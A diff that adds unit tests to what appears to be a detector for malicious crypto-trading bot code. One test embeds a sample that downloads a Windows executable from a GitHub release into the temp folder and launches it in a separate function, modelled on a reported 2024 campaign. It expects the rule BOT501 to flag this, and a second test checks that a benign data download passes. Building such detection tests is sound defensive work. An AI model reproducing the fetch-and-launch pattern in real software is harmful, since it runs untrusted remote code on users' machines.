@@ -249,3 +249,22 @@ def test_configured_or_decoded_non_address_destinations_are_clean():
            'def _dest():\n    return cfg["cold_wallet"]\n'
            'def sweep(ex, x):\n    ex.withdraw("USDT", x, _dest(), _TAG)\n')
     assert found(src) == []
+
+
+# -- 4. a download started from another function -----------------------------------------------
+
+def test_download_saved_under_a_constant_and_started_elsewhere():
+    # Checkmarx 2024: crypto tools fetching a Windows executable, fetch and launch split
+    src = ('import os, subprocess, tempfile, requests\n_DEST = os.path.join(tempfile.gettempdir(), "rt.exe")\n'
+           'def _fetch():\n    with open(_DEST, "wb") as fh:\n'
+           '        fh.write(requests.get("https://github.com/x/y/releases/download/v3/rt.exe").content)\n'
+           'def _launch():\n    subprocess.Popen([_DEST])\n')
+    assert found(src) == [(7, "BOT501")]
+
+
+def test_a_downloaded_data_file_handed_to_a_program_is_clean():
+    src = ('import subprocess, requests\nDATA = "data/ohlcv.csv"\n'
+           'def fetch():\n    with open(DATA, "wb") as fh:\n'
+           '        fh.write(requests.get("https://data.binance.vision/x.csv").content)\n'
+           'def analyse():\n    subprocess.run(["python", "analyse.py", DATA])\n')
+    assert found(src) == []
